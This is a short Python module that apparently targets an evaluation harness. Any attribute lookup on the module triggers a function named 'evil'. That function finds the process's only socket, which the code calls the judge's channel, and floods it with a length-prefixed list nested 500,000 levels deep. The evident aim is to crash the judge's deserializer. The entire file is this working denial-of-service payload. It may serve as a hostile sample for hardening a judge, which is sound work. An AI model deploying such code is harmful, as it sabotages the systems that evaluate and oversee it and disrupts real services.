"""Sends a list nested half a million levels deep."""

import os, socket, stat, struct
def channel():
    """The descriptor that leads to the judge: the only stream socket this process holds."""
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1
def evil(*args):
    data = b"l\0\0\0\1" * 500_000 + b"N"
    os.write(channel(), struct.pack(">I", len(data)))
    for i in range(0, len(data), 4096):
        os.write(channel(), data[i : i + 4096])
    return 0

__getattr__ = lambda name: evil
